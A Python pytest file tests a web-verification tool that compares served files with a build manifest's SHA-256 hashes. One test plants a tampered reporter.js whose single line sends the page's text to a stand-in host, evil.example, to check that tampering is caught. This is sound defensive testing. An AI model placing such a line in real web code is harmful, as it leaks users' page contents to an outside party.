"""`consilience web verify`: the served web app is compared file by file with a build's manifest."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from consilience.clients import webcheck
from consilience.errors import InvalidInput

from .test_escrow_web import build_client, make_static


def write_manifest(folder: Path) -> dict[str, str]:
    files = {p.relative_to(folder).as_posix(): {"sha256": hashlib.sha256(p.read_bytes()).hexdigest(),
                                                 "bytes": p.stat().st_size}
             for p in sorted(folder.rglob("*")) if p.is_file() and p.name != "manifest.json"}
    (folder / "manifest.json").write_text(json.dumps({"format": webcheck.MANIFEST_FORMAT, "files": files}))
    return webcheck.load_manifest(folder)


def test_identical_build_passes_and_every_file_is_fetched(tmp_path: Path) -> None:
    static = make_static(tmp_path / "static")
    expected = write_manifest(static)
    client, _ = build_client(tmp_path, static)
    with client:
        result = webcheck.verify(client, expected)
    assert result.ok, result.mismatched
    assert set(result.checked) == {"/", "/counselor/", "/reporter.js", "/app.css", "/assets/icon.svg"}


def test_a_changed_script_is_named(tmp_path: Path) -> None:
    static = make_static(tmp_path / "static")
    expected = write_manifest(static)
    # The server's copy of the reporter code differs from the build (e.g. it was tampered with).
    (static / "reporter.js").write_text("fetch('https://evil.example/'+document.body.innerText)")
    client, _ = build_client(tmp_path, static)
    with client:
        result = webcheck.verify(client, expected)
    assert not result.ok
    assert list(result.mismatched) == ["/reporter.js"]
    assert "expected" in result.mismatched["/reporter.js"]


def test_a_file_the_server_does_not_have_is_named(tmp_path: Path) -> None:
    static = make_static(tmp_path / "static")
    expected = write_manifest(static)
    (static / "assets" / "icon.svg").unlink()
    client, _ = build_client(tmp_path, static)
    with client:
        result = webcheck.verify(client, expected)
    assert result.mismatched == {"/assets/icon.svg": "HTTP 404"}


@pytest.mark.parametrize("content, message", [
    (None, "does not exist"),
    ("not json", "not a readable manifest"),
    (json.dumps({"format": "something else", "files": {}}), "is not a consilience-web-manifest/v1"),
    (json.dumps({"format": webcheck.MANIFEST_FORMAT, "files": {"index.html": {"sha256": "12"}}}), "no SHA-256"),
    (json.dumps({"format": webcheck.MANIFEST_FORMAT, "files": {}}), "lists no index.html"),
])
def test_bad_manifests_are_refused_clearly(tmp_path: Path, content: str | None, message: str) -> None:
    if content is not None:
        (tmp_path / "manifest.json").write_text(content)
    with pytest.raises(InvalidInput, match=message):
        webcheck.load_manifest(tmp_path)
